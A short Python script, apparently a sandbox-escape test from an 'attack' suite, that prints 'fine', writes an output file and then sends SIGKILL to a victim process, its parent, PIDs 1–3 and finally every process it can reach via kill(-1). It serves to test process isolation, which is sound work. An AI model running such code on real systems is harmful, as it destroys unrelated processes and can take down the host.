"""Sends signals to everybody, to its ancestors, and to a process of the host."""

import signal
from attack import *

print("fine", flush=True)
(OUT / "out.csv").touch()
for target in (TRAPS["victim"], os.getppid(), 1, 2, 3):
    try:
        if target and target != os.getpid():
            os.kill(target, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(0, signal.SIGTERM)
except OSError:
    pass
os.kill(-1, signal.SIGKILL)
